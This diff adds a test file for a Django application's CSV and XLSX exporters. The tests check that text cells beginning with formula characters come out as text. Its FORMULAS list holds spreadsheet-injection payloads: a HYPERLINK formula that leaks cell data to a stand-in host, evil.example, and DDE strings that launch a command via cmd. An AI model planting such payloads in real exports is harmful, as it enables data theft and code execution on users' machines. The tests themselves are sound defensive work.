@@ -1,0 +1,102 @@
+"""Every CSV export goes through one writer, which keeps text a spreadsheet would run as a
+formula (=, +, -, @, tab, carriage return first) as text, and numbers as numbers."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from decimal import Decimal
+
+import pytest
+import time_machine
+from django.core.cache import cache
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from akimat import exports, scoring
+from akimat.calendar import ensure_calendar
+from journal import services as journal_services
+from tests.conftest import WORKDAY_MORNING
+from tests.factories import DepartmentFactory, head_of
+from tests.reception.factories import ServiceFactory, VisitFactory
+
+pytestmark = pytest.mark.django_db
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
+    "+7 701 000 00 00",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def rows_of(content: bytes | str) -> list[list[str]]:
+    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content.lstrip("\ufeff")
+    return list(csv.reader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_text_cell_that_starts_a_formula_is_written_as_text(formula):
+    rows = rows_of(exports.csv_text(["Название"], [[formula]]))
+    assert rows[1] == ["'" + formula]
+
+
+def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
+    line = [-5, Decimal("-1.5"), -0.25, 0, None, "Управление", "сумма = 5", "5-3"]
+    rows = rows_of(exports.csv_text(["a", "b", "c", "d", "e", "f", "g", "h"], [line]))
+    assert rows[1] == ["-5", "-1.5", "-0.25", "0", "", "Управление", "сумма = 5", "5-3"]
+
+
+def test_an_xlsx_cell_that_looks_like_a_formula_is_text():
+    book = load_workbook(io.BytesIO(exports.xlsx_bytes(["a", "b"], [[FORMULAS[0], -5]], title="t")))
+    cell, number = book.active["A2"], book.active["B2"]
+    assert cell.data_type == "s" and cell.value == FORMULAS[0]
+    assert number.value == -5
+
+
+@pytest.fixture
+def evil_department(db):
+    department = DepartmentFactory(slug="evil", name_ru=FORMULAS[0], name_kk=FORMULAS[0])
+    head_of(department, username="evil.head", last_name="-Ахметов")
+    return department
+
+
+def test_the_dashboard_csv_neutralises_formulas(client, deputy, evil_department):
+    scoring.ensure_default_policy()
+    cache.clear()
+    with time_machine.travel(WORKDAY_MORNING, tick=False):
+        ensure_calendar(start=dt.date(2026, 1, 1), end=dt.date(2026, 12, 31))
+        client.force_login(deputy)
+        response = client.get(reverse("dashboard"), {"export": "csv"})
+    line = next(row for row in rows_of(response.content) if "HYPERLINK" in row[0])
+    assert line[0] == "'" + FORMULAS[0] and line[1].startswith("'-Ахметов")
+    assert line[2] == "0"  # a figure stays a number
+
+
+def test_the_reception_statistics_csv_neutralises_formulas(client, deputy, evil_department):
+    VisitFactory(service=ServiceFactory(department=evil_department))
+    client.force_login(deputy)
+    response = client.get(reverse("reception:stats"), {"export": "csv"})
+    line = next(row for row in rows_of(response.content) if "HYPERLINK" in row[0])
+    assert line[0] == "'" + FORMULAS[0] and line[1] == "1"
+
+
+def test_the_logbook_csv_neutralises_formulas_in_every_text_column(
+    client, methodologist, department
+):
+    tag = "-тег"
+    journal_services.create_entry(
+        author=methodologist, title=FORMULAS[0], body=FORMULAS[3], tags=[tag]
+    )
+    today = timezone.localdate().isoformat()
+    client.force_login(methodologist)
+    response = client.get(
+        reverse("journal:export"), {"date_from": today, "date_to": today, "format": "csv"}
+    )
+    line = rows_of(response.content)[1]
+    assert line[3] == "'" + FORMULAS[0] and line[4] == "'" + FORMULAS[3]
+    assert line[5] == "'" + tag
